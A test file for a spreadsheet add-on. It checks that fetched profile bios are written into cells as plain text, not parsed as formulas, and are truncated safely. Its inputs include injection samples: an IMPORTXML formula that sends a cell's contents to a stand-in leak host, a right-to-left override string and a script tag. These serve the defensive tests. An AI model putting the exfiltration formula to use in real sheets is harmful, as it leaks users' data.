import { expect, test } from 'vitest';
import { formulaCell, writtenText } from '../../../addon/platform/grid.ts';
import { typedCell } from '../harness/typing.ts';
import { goodKey, setKey, setUpAddon } from '../spreadsheet-setup.ts';

const setup = setUpAddon();

/** Invented texts that a spreadsheet could parse as formulas, numbers or dates. */
const texts = [
  '=1+1',
  '=IMPORTXML("http://leak.example/?"&A1,"//a")',
  '+49 1234',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  "'quoted",
  'TRUE',
  '0012',
  '1/2',
  '10%',
  '2.000',
  '7234567890123456789',
  'family 👩‍👩‍👧‍👦 and 🇩🇪',
  'مرحبا \u202Eevil\u202C بالعالم',
  'two\nlines',
  '<script>alert(1)</script>',
];

test('captions and names stay unchanged text in a cell, whatever they begin with', async () => {
  const urls = texts.map((_, index) => `https://photo.example/h${index}`);
  const hostile = Object.fromEntries(
    urls.map((url, index) => [url, { bio: texts[index], account_id: '7234567890123456789' }]),
  );
  await setup.api.begin({ keys: [goodKey], people: hostile });
  const file = await setup.open();
  setKey(file);
  file.type('A1', ...urls);
  file.type('B1', '=SOCIAL_PROFILE(A1:A17, "bio,account_id")');
  expect(file.values('C1:C17').flat()).toEqual(texts);
  expect(new Set(file.types('B1:D17').flat())).toEqual(new Set(['text']));
  expect(file.values('D1:D17').flat()).toEqual(texts.map(() => '7234567890123456789'));
  const formulas = Object.entries(file.sheet()).filter(([, cell]) => cell.formula !== undefined);
  expect(formulas.map(([a1]) => a1)).toEqual(['B1']);
});

test('a text longer than a cell is cut at 50,000 characters, never through a character', async () => {
  const people = {
    'https://photo.example/long': { bio: 'x'.repeat(60_000) },
    'https://photo.example/pair': { bio: `${'x'.repeat(49_999)}👩${'y'.repeat(10_000)}` },
  };
  await setup.api.begin({ keys: [goodKey], people });
  const file = await setup.open();
  setKey(file);
  file.type('A1', ...Object.keys(people));
  file.type('B1', '=SOCIAL_PROFILE(A1:A2, "bio")');
  expect(file.values('C1:C2').flat()).toEqual(['x'.repeat(50_000), 'x'.repeat(49_999)]);
});

test('text that is written into a cell is read back unchanged, and nothing in it is parsed', () => {
  for (const text of texts) expect(typedCell(writtenText(text))).toEqual({ type: 'text', value: text });
  expect(typedCell(writtenText('x'.repeat(60_000)))).toEqual({ type: 'text', value: 'x'.repeat(50_000) });
  const unguarded = texts.filter((text) => typedCell(text)?.type !== 'text' || typedCell(text)?.value !== text);
  expect(unguarded).toEqual(texts.slice(0, 4).concat(texts.slice(6, 13)));
});

test('every value of the API gets its type in a cell', () => {
  const values = [0, -1.5, true, false, '', null, undefined, ['a'], { b: 1 }];
  expect(values.map(formulaCell)).toEqual([0, -1.5, true, false, '', '', '', '["a"]', '{"b":1}']);
});
